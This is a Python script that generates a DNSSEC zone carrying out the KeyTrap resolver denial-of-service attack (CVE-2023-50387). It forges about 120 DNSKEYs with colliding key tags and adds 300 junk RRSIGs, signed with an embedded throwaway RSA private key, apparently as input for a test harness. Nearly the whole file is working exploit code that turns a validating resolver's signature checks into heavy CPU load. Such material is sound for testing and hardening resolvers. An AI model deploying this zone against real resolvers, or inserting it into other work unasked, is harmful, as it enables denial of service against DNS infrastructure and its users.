# SPDX-License-Identifier: MIT
"""A signed zone that costs who validates it as much as can be (KeyTrap, CVE-2023-50387).

Its keys all have the same tag, so that each signature has to be tried with each of them. One key is real, and signs the
keys; all other signatures are noise. Written as a script for scripted.py.
"""
import hashlib
import random
import struct
import time

# A key of 1,024 bits that protects nothing: its modulus and private exponent.
MODULUS = int(
    "c19b103d5621d067ebf6f79e0b424c4e3c6d4a586a425f5f13e0a6f7577887741ce18c68890a7eb6b90b5c27f885e2c1"
    "3d6c7dbb05f15bf4f3c3cece92923f7879ed67a28a59286d7d5bd1a5a6083347b13efbca443d4a166870ebe729292368"
    "d2b1e4e5e5aa254eb3af37040052f02c32881498d5a4b0ad6f0beb0f7e0facf7", 16)
EXPONENT = int(
    "a492884a6b56110ed5b138a99ace7f889dab156074eaf8a11c8781c68d0f42ad3c03aa540df1e2e6b6036711ff1ae836"
    "f55cacbff6fc44fbc2deb6843869a312ee4cd9c923e82408d054ffcd8ed39831dc028209f161d033be738fe15c2133c4"
    "960ec1e1fcdc686c62f543ba9b56088a0d18f5fdda7d229320ef96919e129e91", 16)
KEYS, SIGNATURES = 120, 300
SHA256 = bytes.fromhex("3031300d060960864801650304020105000420")
noise = random.Random(4711)


def wire(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.strip(".").split(".")) + b"\0"


def key(modulus):
    """A DNSKEY for RSA with SHA-256 (RFC 3110), which signs keys and everything else."""
    return struct.pack(">HBB", 257, 3, 8) + b"\x03\x01\x00\x01" + modulus.to_bytes(128, "big")


def tag(data):
    """RFC 4034, appendix B."""
    total = sum(octet << 8 if at % 2 == 0 else octet for at, octet in enumerate(data))
    return (total + (total >> 16)) & 0xFFFF


def twin(wanted):
    """A key with this tag that nobody has the other half of."""
    while True:
        modulus = noise.getrandbits(1024) | 1 | 1 << 1023
        # The two octets that make up for the rest.
        modulus &= ~(0xFFFF << 512)
        for more in range(2):
            data = key(modulus | ((wanted - tag(key(modulus)) - more) & 0xFFFF) << 512)
            if tag(data) == wanted:
                return data


def signature(name, kind, number, content=None):
    """An RRSIG over records of one type; without them it is noise."""
    now = int(time.time())
    head = struct.pack(">HBBIIIH", kind, 8, len(name.strip(".").split(".")), 60, now + 86400, now - 86400, number)
    head += wire("keytrap.example")
    if content is None:
        return head + noise.getrandbits(1023).to_bytes(128, "big")
    records = b"".join(wire(name) + struct.pack(">HHIH", kind, 1, 60, len(data)) + data for data in sorted(content))
    padded = SHA256 + hashlib.sha256(head + records).digest()
    padded = b"\0\1" + b"\xff" * (125 - len(padded)) + b"\0" + padded
    return head + pow(int.from_bytes(padded, "big"), EXPONENT, MODULUS).to_bytes(128, "big")


def make(address):
    """The script, and the DS record for the zone above."""
    name = "keytrap.example"
    real = key(MODULUS)
    number = tag(real)
    keys = [real] + [twin(number) for _ in range(KEYS - 1)]
    lines = [f"server {address}", f"zone {name}", f"{name} NS ns.{name}", f"ns.{name} A {address}"]
    lines += [f"{name} DNSKEY \\# {data.hex()}" for data in keys]
    lines += [f"{name} RRSIG \\# {signature(name, 48, number, keys).hex()}"]
    lines += [f"www.{name} A 203.0.113.66"]
    lines += [f"www.{name} RRSIG \\# {signature('www.' + name, 1, number).hex()}" for _ in range(SIGNATURES)]
    digest = hashlib.sha256(wire(name) + real).hexdigest()
    return "\n".join(lines) + "\n", f"{name}. 300 IN DS {number} 8 2 {digest}"
